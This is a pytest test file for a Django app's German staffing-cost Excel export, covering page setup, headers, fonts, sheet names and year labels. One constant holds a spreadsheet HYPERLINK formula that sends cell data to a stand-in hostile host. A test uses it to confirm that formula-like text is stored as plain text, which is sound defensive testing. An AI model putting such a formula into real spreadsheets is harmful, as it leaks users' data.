"""Excel that prints (issues 14, 23): page set-up, header/footer, fonts, sheet names, escapes,
years. LibreOffice prints them in tests/core/test_export_files.py."""

from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.xlsx import (
    BLOCK_SCALE,
    FONT_NAME,
    MIN_FIT_SCALE,
    PAGE_NUMBERS,
    Column,
    PrintLayout,
    print_layout,
    shorten,
)
from costing.excel import write_workbook
from departments.models import OrgUnit
from stellenplan.models import PayGrade
from tests.factories import PositionFactory

pytestmark = pytest.mark.usefixtures("seed")

TODAY = date(2012, 3, 15)
FORMULA = '=HYPERLINK("http://böse.example/?d="&A1;"Klick")'


def export(years=(2012, 2013, 2014)) -> bytes:
    buffer = BytesIO()
    write_workbook(buffer, list(years), today=TODAY)
    return buffer.getvalue()


def workbook(years=(2012, 2013, 2014)):
    return load_workbook(BytesIO(export(years)))


def test_every_sheet_has_print_area_titles_a_readable_scale_and_header_footer():
    book = workbook()
    for ws in book.worksheets:
        end = ws.cell(ws.max_row, ws.max_column)
        assert str(ws.print_area).endswith(f"!$A$1:${end.column_letter}${end.row}"), ws.title
        assert ws.print_title_rows == "$4:$4", ws.title
        assert ws.page_setup.paperSize == 9  # A4
        if ws.sheet_properties.pageSetUpPr.fitToPage:  # narrow enough: one page wide
            assert ws.page_setup.fitToWidth in {1, None}  # 1 is the default
            assert ws.page_setup.fitToHeight == 0
        else:  # wide: printed at 80 % in blocks of columns
            assert ws.page_setup.scale == BLOCK_SCALE
        assert ws.oddHeader.left.text == str(ws["A1"].value).replace("&", "&&")
        assert ws.oddHeader.right.text == "Stand: 15.03.2012"
        assert ws.oddFooter.center.text == PAGE_NUMBERS == "Seite &P von &N"
    # Wide sheets print landscape.
    assert book["Stellen"].page_setup.orientation == "landscape"
    assert book["Übersicht"].page_setup.orientation == "landscape"
    # "Stellen" (27 columns) prints in blocks: ID and Org.einheit on every page, a page break
    # never inside the three columns of a year.
    stellen = book["Stellen"]
    assert stellen.sheet_properties.pageSetUpPr.fitToPage is not True
    assert stellen.print_title_cols == "$A:$B"
    breaks = [b.id for b in stellen.col_breaks.brk]
    assert breaks
    header = [c.value for c in stellen[4]]
    for year in (2012, 2013, 2014):
        first = header.index(f"Jahreskosten {year}")
        assert not {first + 1, first + 2} & set(breaks), year  # brk.id: the column before


def test_print_layout_fits_narrow_sheets_and_splits_wide_ones_between_groups():
    narrow = [Column("A", 40), Column("B", 40)]
    assert print_layout(narrow) == PrintLayout(landscape=False, fit_to_width=True, scale=1.0)
    landscape = print_layout([Column("A", 60)] * 2)
    assert landscape.landscape and landscape.fit_to_width and landscape.scale == 1.0
    # 16 columns of 15 and two of 30: fitted it would print at about 60 %.
    wide = [Column("TH", 30), Column("Amt", 30)] + [
        Column(f"{k} {year}", 15, group=str(year)) for year in range(5) for k in "abc"
    ]
    layout = print_layout(wide, repeat=2)
    assert not layout.fit_to_width and layout.scale >= MIN_FIT_SCALE
    assert layout.repeat == 2
    assert layout.breaks and all((b - 2) % 3 == 0 for b in layout.breaks)


def test_header_footer_escapes_an_ampersand():
    unit = OrgUnit.objects.get(code="20")
    unit.name = "Kämmerei & Steuern"
    unit.save()
    book = workbook((2012,))
    sheet = next(ws for ws in book.worksheets if ws.title.startswith("20 "))
    assert sheet.oddHeader.left.text == "20 Kämmerei && Steuern – Stellen 2012"


def test_one_named_font_everywhere_also_on_bold_cells():
    book = workbook()
    fonts = {
        (cell.font.name, bool(cell.font.b))
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.value is not None
    }
    assert {name for name, _bold in fonts} == {FONT_NAME}
    assert (FONT_NAME, True) in fonts


def test_formula_like_text_shows_without_apostrophe_as_a_string():
    unit = OrgUnit.objects.get(code="20-4")
    PositionFactory(org_unit=unit, pay_grade=PayGrade.objects.get(code="A 8"), tasks=FORMULA)
    book = workbook((2012,))
    cells = [c for row in book["Stellen"].iter_rows() for c in row if c.value == FORMULA]
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].quotePrefix is True
    # Wrapped like every task cell.
    assert cells[0].alignment.wrap_text is True


def test_tasks_keep_one_task_per_line_and_the_row_grows():
    unit = OrgUnit.objects.get(code="20-4")
    tasks = "Buchungen prüfen\nMahnungen schreiben\nKasse abschließen\nBerichte"
    PositionFactory(
        org_unit=unit,
        pay_grade=PayGrade.objects.get(code="A 8"),
        title="Aufgabenliste",
        tasks=tasks,
    )
    book = workbook((2012,))
    sheet = book["Stellen"]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == tasks)
    assert cell.alignment.wrap_text is True
    assert sheet.row_dimensions[cell.row].height >= 4 * 15
    # The header row is as high as its wrapped headers.
    assert sheet.row_dimensions[4].height >= 2 * 15


def test_sheet_names_are_cut_at_a_word_boundary():
    names = workbook((2012,)).sheetnames
    assert "WFB Referat Wirtschaft" in names
    assert all(len(name) <= 31 for name in names)
    assert shorten("WFB Referat Wirtschaft, Finanzen und Beteiligungen", 31) == (
        "WFB Referat Wirtschaft"
    )
    assert shorten("Kurz", 31) == "Kurz"
    assert shorten("Donaudampfschifffahrtsgesellschaft", 10) == "Donaudampf"


def test_the_years_asked_for_are_the_years_named():
    one = workbook((2012,))
    assert one.properties.title == "Stellenplan – Kosten 2012"
    assert one["Übersicht"]["A1"].value == "Stellenplan – Kostenübersicht 2012"
    headers = [c.value for c in one["Stellen"][4]]
    assert "Kosten 2012" in headers and "Kosten 2013" not in headers
    three = workbook((2012, 2013, 2014))
    assert three["Übersicht"]["A1"].value == "Stellenplan – Kostenübersicht 2012–2014"
    assert three["Kostensätze"]["A1"].value.startswith("Kostensätze 2012–2014")


def test_the_export_button_names_the_years(client, django_user_model):
    client.force_login(django_user_model.objects.create_user("leser"))
    page = client.get(reverse("costs:overview"), {"year": 2012}).content.decode()
    assert "Excel-Export 2012–2014" in page


# Printed by LibreOffice (page headers and numbers, no text below 8 pt, formula-like text as it
# is): tests/core/test_export_files.py, one conversion for every export.


def test_the_overviews_notes_wrap_in_their_column_with_a_fitting_height():
    sheet = workbook()["Übersicht"]
    note = next(
        c
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith("Kosten eines Jahres:")
    )
    assert note.column == 2 and note.alignment.wrap_text is True
    assert sheet.row_dimensions[note.row].height >= 3 * 15  # 150 characters in a width of 42
